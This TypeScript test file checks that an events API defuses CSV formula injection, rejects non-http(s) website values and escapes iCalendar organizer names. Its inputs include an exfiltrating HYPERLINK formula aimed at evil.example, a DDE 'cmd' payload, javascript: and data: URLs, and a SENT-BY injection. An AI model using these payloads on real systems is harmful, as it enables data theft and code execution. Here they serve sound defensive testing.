/**
 * Content that is dangerous downstream (docs/api.md §6.6, §22, §23.3, §23.4): CSV cells a spreadsheet
 * would run as formulas, websites that are no web URL through every door (and such values stored before
 * the rule), and organizer names that would add iCalendar parameters.
 */
import { parse } from 'csv-parse/sync'
import ICAL from 'ical.js'
import { beforeAll, describe, expect, it } from 'vitest'
import { asAdmin, call, unique, userWithRole } from '../support/api'
import { testDatabase } from '../support/database'
import { createEvent, createOrganizer, restoreSettings } from '../support/fixtures'
import { importThroughQueue } from '../support/imports'
import { expectInvalidParam } from '../support/expectations'
import {
  api,
  createEventAs,
  createOrganizerAs,
  createVenueAs,
  eventBody,
} from '../support/writeFixtures'

const db = testDatabase()
let admin: string

beforeAll(async () => {
  admin = await asAdmin()
})

/** The rows of a CSV export as objects by header, as the namespace answers it to `token` (anonymous without). */
async function exportRows(
  query: string,
  token?: string,
): Promise<{ text: string; rows: Record<string, string>[] }> {
  const reply = await api(`/events.csv?${query}`, { token })
  expect(reply.status).toBe(200)
  const text = reply.body as string
  return { text, rows: parse(text, { columns: true }) as Record<string, string>[] }
}

describe('CSV export: formulas', () => {
  it('writes cells a spreadsheet would run with a leading quote, leaves plain numbers, and imports its own export back unchanged', async () => {
    const word = unique('csvformula')
    const title = `=HYPERLINK("https://evil.example/?leak="&A1,"${word} click")`
    const venue = `@SUM(1+9)*cmd|' /C calc'!A0 ${word}`
    const quoted = `'=already quoted ${word}`
    await createEventAs(admin, {
      title,
      excerpt: '-3.7',
      venue: { venue },
      start_date: '2030-03-01 10:00:00',
      end_date: '2030-03-01 11:00:00',
    })
    await createEventAs(admin, {
      title: quoted,
      excerpt: '-2+3',
      start_date: '2030-03-02 10:00:00',
      end_date: '2030-03-02 11:00:00',
    })
    const query = `search=${word}&start_date=2030-03-01&end_date=2030-03-03`

    const { rows } = await exportRows(query)
    expect(
      rows.map((row) => [row['Event Name'], row['Event Venue Name'], row['Event Excerpt']]),
    ).toEqual([
      [`'${title}`, `'${venue}`, '-3.7'],
      [`'${quoted}`, '', `'-2+3`],
    ])
    for (const row of rows)
      for (const cell of Object.values(row))
        expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/)

    const exported = await exportRows(`${query}&status=publish`, admin)
    expect(exported.rows.map((row) => row['Event Name'])).toEqual([`'${title}`, `'${quoted}`])
    const back = await importThroughQueue(exported.text)
    expect(back).toMatchObject({
      status: 'done',
      created: 0,
      updated: 0,
      unchanged: 2,
      failed: 0,
      failures: [],
    })
    const listed = await api(`/events?${query}`)
    expect(
      listed.body.events.map((event: any) => [
        event.title,
        event.excerpt.replace(/<\/?p>\n?/g, ''),
      ]),
    ).toEqual([
      [title, '-3.7'],
      [quoted, '-2+3'],
    ])
    expect(listed.body.events[0].venue.venue).toBe(venue)
  })
})

const NOT_WEB = [
  'javascript:alert(1)',
  'message:%3C0123@mail.example%3E',
  'data:text/html,<script>alert(1)</script>',
  'example.org',
  'http:example.org',
  'https://',
]

describe('websites: http(s) URLs through every door', () => {
  it('refuses any other value in Payload REST and GraphQL, for events, venues and organizers, and keeps what was stored', async () => {
    const author = await userWithRole('author')
    const items = [
      {
        collection: 'events',
        type: 'Event',
        doc: await createEventAs(author.token, { website: 'https://event.example/' }),
      },
      {
        collection: 'venues',
        type: 'Venue',
        doc: await createVenueAs(author.token, { website: 'https://venue.example/' }),
      },
      {
        collection: 'organizers',
        type: 'Organizer',
        doc: await createOrganizerAs(author.token, { website: 'https://organizer.example/' }),
      },
    ]
    for (const { collection, type, doc } of items) {
      for (const website of NOT_WEB) {
        const rest = await call(`/api/${collection}/${doc.id}`, {
          method: 'PATCH',
          token: author.token,
          json: { website },
        })
        expect({ collection, website, status: rest.status }).toEqual({
          collection,
          website,
          status: 400,
        })
        expect(JSON.stringify(rest.body)).toContain('http(s) URL')
        const graphql = await call('/api/graphql', {
          method: 'POST',
          token: author.token,
          json: {
            query: `mutation { update${type}(id: ${doc.id}, data: { website: ${JSON.stringify(website)} }) { website } }`,
          },
        })
        expect(graphql.status).toBeLessThan(500)
        expect(JSON.stringify(graphql.body.errors ?? null), `${type} ${website}`).toContain(
          'http(s) URL',
        )
      }
      const stored = await call(`/api/${collection}/${doc.id}?depth=0`, { token: author.token })
      expect(stored.body.website).toBe(`https://${collection.slice(0, -1)}.example/`)
      const changed = await call(`/api/${collection}/${doc.id}`, {
        method: 'PATCH',
        token: author.token,
        json: { website: 'https://changed.example/page?q=1' },
      })
      expect(changed.status, JSON.stringify(changed.body)).toBe(200)
      expect(changed.body.doc.website).toBe('https://changed.example/page?q=1')
    }
    const created = await call('/api/events', {
      method: 'POST',
      token: author.token,
      json: {
        title: unique('js'),
        start: '2030-01-01T10:00:00.000Z',
        end: '2030-01-01T11:00:00.000Z',
        website: 'javascript:alert(1)',
      },
    })
    expect(created.status).toBe(400)
    for (const website of NOT_WEB) {
      const namespace = await api('/events', {
        method: 'POST',
        token: author.token,
        json: eventBody({ website }),
      })
      expectInvalidParam(namespace, 'website')
      expect(namespace.body.data.params.website).toBe(
        'Must be an http(s) URL (https://example.org/…) or empty.',
      )
    }
  })

  it('holds the site URL setting, the base of every permalink, to the same rule', async () => {
    const before =
      ((await call('/api/globals/settings')).body.siteUrl as string | undefined) ?? null
    try {
      for (const siteUrl of ['javascript:alert(1)//', 'example.org']) {
        const reply = await call('/api/globals/settings', {
          method: 'POST',
          token: admin,
          json: { siteUrl },
        })
        expect({ siteUrl, status: reply.status }).toEqual({ siteUrl, status: 400 })
        expect(JSON.stringify(reply.body)).toContain('http(s) URL')
      }
    } finally {
      await restoreSettings({ siteUrl: before })
    }
    expect((await call('/api/globals/settings')).body.siteUrl ?? null).toBe(before)
  })

  it('does not serve a stored value that is no web URL: objects, json_ld, lists, CSV, iCalendar', async () => {
    const word = unique('badsite')
    const event = await createEventAs(admin, {
      title: `${word} gala`,
      start_date: '2030-04-01 10:00:00',
      end_date: '2030-04-01 11:00:00',
      website: 'https://gala.example/',
      venue: { venue: `${word} hall`, website: 'https://hall.example/' },
      organizer: [
        {
          organizer: `${word} band`,
          website: 'https://band.example/',
          email: `${word}@example.org`,
        },
      ],
    })
    const venueId = event.venue.id as number
    const organizerId = event.organizer[0].id as number
    // Stored before the rule existed (or by a door that skipped it): only SQL can still write these.
    await db.query(`UPDATE events SET website = 'javascript:alert(1)' WHERE id = $1`, [event.id])
    await db.query(`UPDATE venues SET website = 'javascript:alert(2)' WHERE id = $1`, [venueId])
    await db.query(`UPDATE organizers SET website = 'message:%3Cx@mail.example%3E' WHERE id = $1`, [
      organizerId,
    ])

    const single = (await api(`/events/${event.id}`)).body
    expect(single.website).toBe('')
    expect(single.venue).not.toHaveProperty('website')
    expect(single.organizer[0]).not.toHaveProperty('website')
    expect(single.json_ld.location).not.toHaveProperty('sameAs')
    expect(single.json_ld.organizer).not.toHaveProperty('url')
    expect(single.json_ld.organizer).not.toHaveProperty('sameAs')
    const venue = (await api(`/venues/${venueId}`)).body
    expect(venue).not.toHaveProperty('website')
    expect(venue.json_ld).not.toHaveProperty('sameAs')
    const organizer = (await api(`/organizers/${organizerId}`)).body
    expect(organizer).not.toHaveProperty('website')
    expect(organizer.json_ld).not.toHaveProperty('url')
    expect(organizer.json_ld).not.toHaveProperty('sameAs')
    for (const token of [undefined, admin]) {
      const list = await api(`/events?search=${word}&start_date=2030-04-01&end_date=2030-04-02`, {
        token,
      })
      expect(list.body.events.map((listed: any) => listed.website)).toEqual([''])
      expect(JSON.stringify(list.body)).not.toMatch(/javascript:|message:/)
    }
    const { rows } = await exportRows(`search=${word}&start_date=2030-04-01&end_date=2030-04-02`)
    expect(rows.map((row) => row['Event Website'])).toEqual([''])
    const ics = await call<string>(`/api/cal/events/v1/events/${event.id}.ics`)
    expect(ics.status).toBe(200)
    expect(ics.body).not.toMatch(/javascript:|message:/)
  })
})

describe('iCalendar: parameter values', () => {
  it('writes an organizer whose name holds DQUOTEs with exactly its CN and address', async () => {
    const tag = unique('cn')
    const name = `${tag} Evil"; SENT-BY="mailto:boss@evil.example`
    const organizer = await createOrganizer({ name, email: `${tag}@example.org` })
    const event = await createEvent({ title: `${tag} meeting`, organizers: [organizer.id] })
    for (const path of [
      `/events/${event.id}.ics`,
      `/events.ics?search=${tag}&start_date=2000-01-01&end_date=2100-01-01`,
    ]) {
      const reply = await call<string>(`/api/cal/events/v1${path}`)
      expect(reply.status).toBe(200)
      const vevents = new ICAL.Component(ICAL.parse(reply.body)).getAllSubcomponents('vevent')
      expect(vevents).toHaveLength(1)
      const [property, parameters, , value] = vevents[0]!
        .getFirstProperty('organizer')!
        .toJSON() as [string, Record<string, string>, string, string]
      expect({ property, parameters, value }).toEqual({
        property: 'organizer',
        parameters: { cn: `${tag} Evil'; SENT-BY='mailto:boss@evil.example` },
        value: `mailto:${tag}@example.org`,
      })
    }
  })
})
